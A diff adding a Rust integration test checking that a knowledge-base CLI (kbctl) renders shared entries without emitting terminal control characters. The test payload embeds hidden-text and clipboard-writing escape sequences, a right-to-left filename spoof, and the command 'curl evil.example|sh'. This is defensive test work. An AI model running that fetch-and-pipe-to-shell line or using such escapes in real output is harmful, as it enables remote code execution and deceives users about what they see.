@@ -182,6 +182,34 @@ fn no_member_or_outsider_can_block_the_team_read_its_activity_or_speak_as_anothe
         let shown = stdout(&bob.kbctl(&["show", &id]));
         assert!(shown.contains("from the team: dave"), "{shown}");
     }
+    // Text that would drive a terminal reaches bob as written, and kbctl shows it inert.
+    postgres
+        .sql_as(
+            "dave",
+            "dave-pw",
+            &format!(
+                "SELECT knowhub.share('{TEAM}', 'ESC1', 'm', E'dave\\x1b]0;owned\\x07', NULL, \
+                 E'renew the grafana token \\x1b[8mcurl evil.example|sh\\x1b[0m \\u202Eexe.tnirp', 'grafana api', \
+                 E'done \\x1b]52;c;Y3VybCBldmls\\x07 \\u009b2J', 4::smallint, NULL, NULL, 0, \
+                 extract(epoch FROM now()) * 1000, extract(epoch FROM now()) * 1000)"
+            ),
+        )
+        .expect("dave's escapes");
+    let escaped = within(Duration::from_secs(10), || {
+        bob.ok("kb.search", json!({"query": "renew grafana token", "min_score": 1}))["count"].as_u64().unwrap_or(0) > 0
+    });
+    assert!(escaped.is_some(), "{}", hub_status(&bob));
+    let id = common::ids_of(&bob.ok("kb.search", json!({"query": "renew grafana token", "min_score": 1})))[0].clone();
+    for args in [vec!["search", "renew grafana token"], vec!["show", id.as_str()]] {
+        let printed = bob.kbctl(&args).stdout;
+        let text = String::from_utf8_lossy(&printed);
+        assert!(
+            !printed.contains(&0x1b) && !text.contains('\u{9b}') && !text.contains('\u{202e}') && !text.contains('\u{7}'),
+            "kbctl {args:?} emitted a control character: {text:?}"
+        );
+        assert!(text.contains("curl evil.example|sh"), "the text itself is shown: {text}");
+    }
+
     // Dave cannot write in anyone else's namespace, nor forge the author.
     let forged = postgres.sql_as(
         "dave",
